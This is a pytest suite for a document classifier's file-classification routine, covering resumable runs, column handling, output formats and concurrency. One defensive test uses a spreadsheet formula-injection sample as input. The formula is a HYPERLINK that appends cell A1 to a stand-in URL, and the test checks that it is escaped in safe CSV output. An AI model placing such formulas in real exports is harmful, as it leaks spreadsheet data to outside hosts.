"""classify_file: compared with the pipeline, interrupted at any byte, and with concurrent runs."""

import copy
import csv
import json

import pytest
import torch
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from transformers import BertModel, pipeline

from docsplit_hf import load_labeled_examples
from docsplit_hf.classifier import predict_file as classifying
from docsplit_hf.classifier import row_files
from docsplit_hf.classifier.predict_file import PredictionFiles, check_files, classify_file
from docsplit_hf.classifier.row_files import read_rows
from docsplit_hf.reading.labels import labels_by_name

BLOCK = 16


@pytest.fixture(autouse=True)
def small_blocks(monkeypatch):
    for module in (row_files, classifying):
        monkeypatch.setattr(module, "ROWS_AT_A_TIME", BLOCK)


@pytest.fixture(scope="module")
def pipe(make_tiny_config, tokenizer, texts):
    torch.manual_seed(0)
    pipe = pipeline("docsplit-knn", model=BertModel(make_tiny_config()), tokenizer=tokenizer, device="cpu")
    pipe.add_examples(texts[:16], ["odd", "even"] * 8)
    return pipe


@pytest.fixture
def new(texts, tmp_path):
    """A file with more than a block of rows; every tenth row has no text."""
    rows = [{"nr": i, "body": f"{texts[i % 48]} {i}" if i % 10 else None} for i in range(BLOCK + 10)]
    (tmp_path / "new.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    return tmp_path / "new.jsonl", rows


@pytest.fixture
def classify(pipe, new, tmp_path, monkeypatch):
    """Classify the file, or stop after all answers are kept; returns the number of resumed answers."""

    def classify(name, column="body", interrupted=False, safe_csv=False, **options):
        files = PredictionFiles(new[0], tmp_path / name, column, safe_csv=safe_csv)
        if not interrupted:
            return classify_file(pipe, files, show_progress=False, **options).resumed
        with monkeypatch.context() as patched, pytest.raises(ZeroDivisionError):
            patched.setattr(classifying, "write_rows", lambda *_: 1 / 0)
            classify_file(pipe, files, show_progress=False, **options)

    return classify


def read(file):
    return [json.loads(line) for line in file.open(encoding="utf-8")]


def test_the_answers_are_those_of_the_pipeline(pipe, new, tmp_path):
    source, rows = new
    outcome = classify_file(
        pipe, PredictionFiles(source, tmp_path / "a.jsonl", "body"), return_neighbors=2, show_progress=False
    )
    assert outcome[:4] == (len(rows), 3, 0, 0)
    written = read(tmp_path / "a.jsonl")
    assert [{"nr": row["nr"], "body": row["body"]} for row in written] == rows
    answers = iter(pipe([row["body"] for row in rows if row["body"]], return_neighbors=2))
    for row in written:
        expected = next(answers) if row["body"] else {"label": None, "score": None, "neighbors": None}
        assert row["label"] == expected["label"] and row["score"] == pytest.approx(expected["score"], abs=1e-4)
        ids = [[neighbor["id"] for neighbor in answer["neighbors"] or []] for answer in (row, expected)]
        assert ids[0] == ids[1]


def test_columns_with_the_names_of_parts_of_answers_stay(pipe, tmp_path, texts):
    (tmp_path / "new.csv").write_text(f"text,neighbors,page\n{texts[0]},the Smiths,7\n")
    options = {"top_k": 2, "return_neighbors": 1}
    classify_file(pipe, PredictionFiles(tmp_path / "new.csv", tmp_path / "a.jsonl"), **options)
    [row] = read(tmp_path / "a.jsonl")
    assert (row["neighbors"], row["page"], len(row["top_k"])) == ("the Smiths", "7", 2)


def test_several_labels_and_columns_of_the_same_name(pipe, tmp_path, texts, caplog):
    (tmp_path / "new.csv").write_text(f"text,label,input_label,score\n{texts[0]},gold,x,y\n")
    classify_file(pipe, PredictionFiles(tmp_path / "new.csv", tmp_path / "a.csv"), top_k=2, return_neighbors=1)
    ((row),) = csv.DictReader((tmp_path / "a.csv").open(newline=""))
    assert list(row) == ["text", "input_input_label", "input_label", "input_score", "label", "score", "top_k"]
    assert (row["input_input_label"], row["input_label"], row["input_score"]) == ("gold", "x", "y")
    best, second = json.loads(row["top_k"])
    assert (best["label"], str(best["score"])) == (row["label"], row["score"])
    assert best["score"] + second["score"] == pytest.approx(1)
    assert len(best["neighbors"]) + len(second["neighbors"]) == 1
    assert "'label' is 'input_input_label'" in caplog.text


WORDS = ["true", "False", "NA", "null", "None", "nan", "inf", "007", "+1", "1.10", "1e5", "1_000", "0x1F", " 1", "#N/A"]
NAMES = st.sampled_from(WORDS) | st.integers().map(str) | st.floats().map(str) | st.dates().map(str)
NAMES |= st.datetimes().map(str) | st.text(st.characters(codec="utf-8", exclude_characters="\x00\r"))
NAMES = NAMES.filter(str.strip)


@settings(max_examples=5, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    labels=st.lists(NAMES, min_size=2, max_size=3, unique=True),
    ids=st.lists(NAMES, min_size=6, max_size=6, unique=True),
    ending=st.sampled_from(["csv", "tsv", "jsonl"]),
    target=st.sampled_from(["csv", "jsonl", "parquet"]),
)
@example(["true", "false"], ["1", "01", "1.0", "NA", "2024-01-01", "null"], "csv", "csv")
@example(["true", "false"], ["1", "01", "1.0", "NA", "2024-01-01", "null"], "tsv", "parquet")
def test_labels_and_ids_are_the_characters_of_the_file(
    make_tiny_config, tokenizer, texts, tmp_path, labels, ids, ending, target
):
    rows = [{"id": ids[i], "text": texts[i], "label": labels[i % len(labels)]} for i in range(6)]
    source = tmp_path / f"labeled.{ending}"
    answers = tmp_path / f"answers.{target}"
    with source.open("w", encoding="utf-8", newline="") as file:
        if ending == "jsonl":
            file.writelines(json.dumps(row) + "\n" for row in rows)
        else:
            writer = csv.DictWriter(file, list(rows[0]), delimiter="\t" if ending == "tsv" else ",")
            writer.writeheader()
            writer.writerows(rows)
    examples = load_labeled_examples(source, id_column="id", validation_size=0)["train"]
    assert (labels_by_name(examples), examples["id"][:]) == ([row["label"] for row in rows], ids)
    torch.manual_seed(0)
    pipe = pipeline("docsplit-knn", model=BertModel(make_tiny_config()), tokenizer=tokenizer, device="cpu")
    pipe.add_examples(examples, labels_by_name(examples), examples["id"][:])
    classify_file(pipe, PredictionFiles(source, answers), k=1, show_progress=False, overwrite=True)
    assert [(row["id"], row["input_label"], row["label"]) for row in read_rows(answers)] == [
        (row["id"], row["label"], row["label"]) for row in rows
    ]


@pytest.mark.parametrize("ending", ["csv", "jsonl", "parquet"])
def test_an_interrupted_run_gives_the_same_file(classify, new, tmp_path, ending):
    _, rows = new
    whole = tmp_path / f"whole.{ending}"
    target = tmp_path / f"a.{ending}"
    partial = tmp_path / f"a.{ending}.partial"
    classify(whole.name)
    classify(target.name, interrupted=True)
    kept = partial.read_bytes()
    after_block = len(b"".join(kept.splitlines(keepends=True)[: BLOCK + 1]))
    for end in (0, 5, kept.index(b"\n"), after_block - 1, after_block, after_block + 30, len(kept)):
        partial.write_bytes(kept[:end])
        done = len(rows) if end == len(kept) else BLOCK if end >= after_block else 0
        assert classify(target.name, overwrite=True) == done
        assert target.read_bytes() == whole.read_bytes()
        assert not partial.exists() and not list(tmp_path.glob("*.tmp"))


def test_answers_are_safe_in_spreadsheets(classify, new, tmp_path):
    source, rows = new
    formula = '=HYPERLINK("http://example.org/?" & A1)'
    source.write_text("".join(json.dumps({"nr": formula, "@": -1.5, "body": row["body"]}) + "\n" for row in rows))
    classify("raw.csv")
    classify("safe.csv", safe_csv=True)
    raw, safe = ((tmp_path / name).read_text() for name in ("raw.csv", "safe.csv"))
    assert formula in {row["nr"] for row in csv.DictReader(raw.splitlines())}
    written = list(csv.DictReader(safe.splitlines()))
    assert {row["nr"] for row in written} == {f"'{formula}"} and {row["'@"] for row in written} == {"-1.5"}
    assert list(read_rows(tmp_path / "safe.csv")) == list(read_rows(tmp_path / "raw.csv"))
    # The answers so far are the same either way.
    classify("killed.csv", interrupted=True)
    assert classify("killed.csv", safe_csv=True) == BLOCK + 10
    assert (tmp_path / "killed.csv").read_text() == safe


@pytest.mark.parametrize("change", ["input", "examples", "options", "columns", "more answers"])
def test_answers_of_another_run_are_ignored(pipe, classify, new, change, caplog, texts):
    source = new[0]
    partial = source.with_name("a.csv.partial")
    classify("a.csv", interrupted=True)
    column = "body"
    max_length = None
    added = []
    message = "comes from another input, classifier or options: starting over"
    if change == "input":
        source.write_text(source.read_text() + '{"body": "One more."}')
    elif change == "examples":
        added = pipe.add_examples([texts[20]], ["odd"])
    elif change == "options":
        max_length = 16
    elif change == "columns":
        source.write_text(source.read_text().replace('"body"', '"essay"'))
        column = "essay"
    else:
        header, *answers = partial.read_bytes().splitlines(keepends=True)
        partial.write_bytes(header + b"".join(answers * 2))
        message = "has 48 answers, but there are 26 rows: starting over"
    assert classify("a.csv", column, max_length=max_length) == 0 and message in caplog.text
    pipe.remove_examples(added)


def test_requested_columns_are_written(pipe, new, tmp_path):
    files = PredictionFiles(new[0], tmp_path / "a.jsonl", "body")
    classify_file(pipe, files, show_progress=False, return_read=True)
    assert {row["read"] for row in read(tmp_path / "a.jsonl") if row["body"]} == {1.0}


def test_the_fingerprint_covers_documents_and_fitted_experts(pipe, texts, tmp_path):
    fitted = copy.deepcopy(pipe)
    fitted.fit(show_progress=False)
    fingerprints = [classifying._fingerprint(fitted)]
    for change in (lambda: fitted.add_documents(texts[16:30]), fitted.fit, lambda: fitted.fit(experts=["naive_bayes"])):
        change()
        fingerprints.append(classifying._fingerprint(fitted))
    assert len(set(fingerprints)) == 4
    fitted.fit(experts=["naive_bayes"])
    fitted.save_pretrained(tmp_path)
    again = pipeline("docsplit-knn", model=str(tmp_path), device="cpu")
    assert classifying._fingerprint(fitted) == classifying._fingerprint(again)
    in_bfloat16 = pipeline("docsplit-knn", model=str(tmp_path), device="cpu", precision="bfloat16")
    assert classifying._fingerprint(fitted) != classifying._fingerprint(in_bfloat16)


def test_existing_files_are_replaced_only_on_request_and_the_input_never(classify, tmp_path):
    (tmp_path / "a.csv").write_text("mine")
    with pytest.raises(ValueError, match="a.csv is there already"):
        classify("a.csv")
    with pytest.raises(ValueError, match="new.jsonl is there already"):
        classify("new.jsonl", overwrite=True)
    with pytest.raises(ValueError, match="no column 'text' in .*only .'nr', 'body'"):
        classify("b.csv", "text")
    assert (tmp_path / "a.csv").read_text() == "mine"


def test_defaults_of_the_pipeline_are_options(pipe, classify, tmp_path, monkeypatch):
    """A run resumes only with the same defaults, and the requested columns are written."""
    classify("option.csv", return_neighbors=2, k=1)
    classify("plain.jsonl", interrupted=True)
    assert classify("plain.jsonl", max_length=None) == BLOCK + 10
    classify("plain.jsonl", interrupted=True, overwrite=True)
    with monkeypatch.context() as defaults:
        defaults.setattr(pipe, "_forward_params", {"k": 1, "return_neighbors": 2})
        assert classify("plain.jsonl", overwrite=True) == 0
        classify("default.csv")
        defaults.setattr(pipe, "_forward_params", {"k": 1, "top_k": 2})
        classify("top.jsonl")
    assert (tmp_path / "default.csv").read_bytes() == (tmp_path / "option.csv").read_bytes()
    assert all("neighbors" in row for row in read(tmp_path / "plain.jsonl"))
    assert [len(row["top_k"] or []) for row in read(tmp_path / "top.jsonl")[:3]] == [0, 2, 2]


def test_a_second_run_on_the_same_answers_is_refused(classify, new, tmp_path, monkeypatch):
    first = classifying._answers

    def second(*arguments):
        with pytest.raises(ValueError, match="a.jsonl.partial is in use by another run"):
            classify("a.jsonl")
        return first(*arguments)

    monkeypatch.setattr(classifying, "_answers", second)
    classify("a.jsonl")
    assert len(read(tmp_path / "a.jsonl")) == len(new[1]) and not list(tmp_path.glob("*.partial"))


def test_rows_that_parquet_cannot_hold_are_refused_before_classifying(tmp_path):
    rows = [{"text": "One.", "n": 1}, *[{"text": "Two."}] * BLOCK, {"text": "Three.", "n": "three"}]
    (tmp_path / "new.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    with pytest.raises(ValueError, match="do not fit into Parquet"):
        check_files(PredictionFiles(tmp_path / "new.jsonl", tmp_path / "a.parquet"))
    assert check_files(PredictionFiles(tmp_path / "new.jsonl", tmp_path / "a.csv"))[1] == len(rows)


@pytest.mark.parametrize("ending", ["csv", "jsonl", "parquet"])
def test_lone_surrogates_in_nested_values_are_replaced(pipe, tmp_path, ending):
    (tmp_path / "new.jsonl").write_text(json.dumps({"text": "One.", "meta": {"\ud800": ["\udfff"]}}) + "\n")
    texts = PredictionFiles(tmp_path / "new.jsonl", tmp_path / f"a.{ending}")
    assert classify_file(pipe, texts, show_progress=False).rows == 1
    (row,) = read_rows(texts.target)
    meta = json.loads(row["meta"]) if ending == "csv" else row["meta"]
    assert meta == {"\ufffd": ["\ufffd"]}
